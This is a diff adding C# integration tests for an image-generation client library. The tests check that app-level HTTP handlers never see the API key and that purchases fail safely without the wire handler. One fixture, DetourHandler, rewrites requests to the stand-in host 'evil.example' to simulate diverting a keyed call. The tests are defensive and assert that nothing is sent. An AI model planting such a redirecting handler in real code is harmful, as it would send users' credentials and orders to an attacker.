@@ -1,0 +1,87 @@
+using ImaNanoBanana.IntegrationTests.Sockets;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.DependencyInjection.Extensions;
+using Microsoft.Extensions.Http;
+
+namespace ImaNanoBanana.IntegrationTests.MoneyPath;
+
+/// <summary>Over real sockets: what stands above the wire handler never sees the key, and without the wire handler nothing can be bought.</summary>
+public class WireHandlerPlacementTests
+{
+    private const string Key = "ima_recognisable_key";
+
+    [Fact]
+    public async Task Handlers_of_the_app_see_neither_the_key_nor_the_order_and_the_server_sees_both()
+    {
+        await using var server = new RawServer();
+        var spy = new SpyHandler();
+        await using var provider = Provider(server, services => services.AddHttpClient("ImaNanoBanana").AddHttpMessageHandler(() => spy));
+
+        var result = await provider.GetRequiredService<IImaImageClient>().GenerateAsync(new ImageRequest("a puppy"), TestContext.Current.CancellationToken);
+
+        Assert.Equal("https://images.example/1.png", result.Image.Url.OriginalString);
+        Assert.Equal(3, spy.Seen.Count);
+        Assert.All(spy.Seen, seen => Assert.DoesNotContain(Key, seen, StringComparison.Ordinal));
+        Assert.Equal(3, server.Requests.Count);
+        Assert.All(server.Requests, request => Assert.Equal("Bearer " + Key, request.Headers["Authorization"]));
+    }
+
+    [Fact]
+    public async Task Without_the_wire_handler_nothing_is_bought_and_the_error_says_why()
+    {
+        await using var server = new RawServer();
+        await using var provider = Provider(server, services => services.RemoveAll<IHttpMessageHandlerBuilderFilter>());
+
+        var exception = await Assert.ThrowsAsync<ImaException>(() =>
+            provider.GetRequiredService<IImaImageClient>().StartAsync(new ImageRequest("a puppy"), TestContext.Current.CancellationToken));
+
+        Assert.Equal(ImaErrorKind.NotSent, exception.Kind);
+        Assert.Contains("wire handler is not in the pipeline", exception.Message, StringComparison.Ordinal);
+        Assert.Equal(0, server.CreateBodies);
+        Assert.All(server.Requests, request => Assert.False(request.Headers.ContainsKey("Authorization")));
+    }
+
+    [Fact]
+    public async Task A_handler_that_changes_the_host_gets_nothing_sent()
+    {
+        await using var server = new RawServer();
+        await using var provider = Provider(server, services => services.AddHttpClient("ImaNanoBanana").AddHttpMessageHandler(() => new DetourHandler()));
+
+        var exception = await Assert.ThrowsAsync<ImaException>(() =>
+            provider.GetRequiredService<IImaImageClient>().StartAsync(new ImageRequest("a puppy"), TestContext.Current.CancellationToken));
+
+        Assert.Equal(ImaErrorKind.CatalogUnavailable, exception.Kind);
+        Assert.Contains("changed the address to evil.example", exception.Message, StringComparison.Ordinal);
+        Assert.Empty(server.Requests);
+    }
+
+    private static ServiceProvider Provider(RawServer server, Action<IServiceCollection> configure)
+    {
+        var services = new ServiceCollection();
+        var ima = services.AddImaNanoBanana(options => options.ApiKey = Key);
+        services.AddHttpClient(ima.HttpClientName).ConfigurePrimaryHttpMessageHandler(() => server.Handler());
+        configure(services);
+        return services.BuildServiceProvider();
+    }
+
+    private sealed class SpyHandler : DelegatingHandler
+    {
+        public List<string> Seen { get; } = [];
+
+        protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
+        {
+            var response = await base.SendAsync(request, cancellationToken);
+            Seen.Add($"{request} {response.RequestMessage} {response} {await (request.Content?.ReadAsStringAsync(cancellationToken) ?? Task.FromResult(""))}");
+            return response;
+        }
+    }
+
+    private sealed class DetourHandler : DelegatingHandler
+    {
+        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
+        {
+            request.RequestUri = new Uri("https://evil.example/open/v1/product/list");
+            return base.SendAsync(request, cancellationToken);
+        }
+    }
+}
